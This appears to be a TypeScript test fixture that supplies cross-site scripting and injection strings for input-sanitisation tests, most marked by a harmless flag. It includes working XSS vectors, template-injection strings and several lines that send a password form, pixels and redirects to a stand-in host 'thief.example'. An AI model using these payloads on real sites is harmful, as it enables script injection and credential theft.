import { existsSync, readFileSync } from 'node:fs'
import { join } from 'node:path'

/** What each script does that runs after all. */
export const marker = '__ran'
export const run = `window.${marker}=1`
const thief = 'https://thief.example'

/** Ways by which scripts, pages of others and broken markup got into pages elsewhere. */
const ours: readonly string[] = [
  `<script>${run}</script>`,
  `</script><script>${run}//`,
  `</title></textarea></style><script>${run}</script>`,
  `<!--<script>${run}</script>`,
  `"><img src=x onerror="${run}">`,
  `' onmouseover='${run}' x='`,
  `<svg/onload=${run}><animate onbegin=${run} attributeName=x>`,
  `<a href="javascript:${run}">fees</a>`,
  `<a href="&#106;ava\tscript:${run}" style="position:fixed;inset:0">fees</a>`.replace(
    '\t',
    '&#9;',
  ),
  `javascript:${run}`,
  `data:text/html,<script>opener.${run}</script>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<form action="${thief}/"><input name=password autofocus onfocus=${run}></form>`,
  `<img src="${thief}/pixel.png"><video src="${thief}/video.mp4" autoplay></video>`,
  `<style>@import "${thief}/all.css"; body{background:url(${thief}/pixel.png)}</style>`,
  `<base href="${thief}/"><meta http-equiv="refresh" content="0;url=${thief}/">`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}} #{7*7} <%= 7*7 %> %s %n $& $1`,
  'null \\ \\u003cscript\\u003e \u2028 \u2029 \u200f &lt;script&gt;',
  `क्षि${'\u0345'.repeat(20)} ${'😀'.repeat(20)} ${'W'.repeat(40)}`,
]

const folder = join(process.env.SAMPLES_DIR ?? '', 'naughty')

/** Whether every string of SAMPLES_DIR goes through every field: hours, so by hand alone. */
export const isWhole =
  process.env.ALL_STRINGS === '1' && process.env.SAMPLES_DIR !== undefined && existsSync(folder)

const read = (name: string) => readFileSync(join(folder, name), 'utf8')

/** What is put into fields: ours, or with `ALL_STRINGS=1` also the lists in `SAMPLES_DIR/naughty`. */
export const strings: readonly string[] = isWhole
  ? [...ours, ...JSON.parse(read('strings.json')), ...read('xss.txt').split('\n')]
  : ours
